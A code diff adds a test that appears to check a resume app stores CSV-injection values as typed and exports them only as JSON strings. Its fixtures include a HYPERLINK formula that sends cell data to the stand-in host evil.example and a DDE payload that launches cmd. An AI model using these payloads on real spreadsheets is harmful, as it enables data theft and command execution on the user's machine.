@@ -320,4 +320,35 @@ describe.each(targets())('LinkedIn export import and simulation on $name', (targ
     expect([res.status, res.headers.location]).toEqual([302, LINKEDIN_PAGES.connected]);
     expect((await paid.get('/api/user')).body.linkedinId).toBe(`dev-${paid.userId}`);
   });
+
+  it('keeps values a spreadsheet would run as a formula as typed: no export of the product is a spreadsheet', async () => {
+    // OWASP's CSV injection prefixes: =, +, -, @ (docs/decisions/0035-bounded-input.md). In a resume '- ' starts a
+    // bullet line and '+' a phone number, so the stored resume keeps them; only a CSV/TSV export would prefix them.
+    const c = await ResumeClient.signIn(t);
+    const description = '- Built the engine\n=HYPERLINK("https://evil.example/?x="&A1,"notes")';
+    const zip = zipOf({
+      'Positions.csv': csv(POSITIONS_HEADER, [
+        ["@SUM(1+1)*cmd|' /C calc'!A0", '+Engineer', description, '-London', 'Jan 2020', ''],
+      ]),
+      'Skills.csv': csv(SKILLS_HEADER, [['=1+1']]),
+    });
+    const imported = await upload(c, zip, 'import');
+    expect(imported.status).toBe(200);
+    const [experience] = (await resumeOf(c)).experiences;
+    expect([experience.company, experience.title, experience.description, experience.location]).toEqual([
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+Engineer',
+      description,
+      '-London',
+    ]);
+    expect((await resumeOf(c)).skills.map((s) => s.name)).toEqual(['=1+1']);
+    // The exports: JSON Resume (a JSON attachment, strings typed as strings) and the PDF. Neither opens as cells.
+    const exported = await c.get('/api/resume/export/json-resume');
+    expect(exported.headers['content-type']).toMatch(/^application\/json/);
+    expect(exported.headers['content-disposition']).toBe('attachment; filename="resume.json"');
+    expect(JSON.parse(exported.text).work[0]).toMatchObject({
+      name: "@SUM(1+1)*cmd|' /C calc'!A0",
+      summary: description,
+    });
+  });
 });
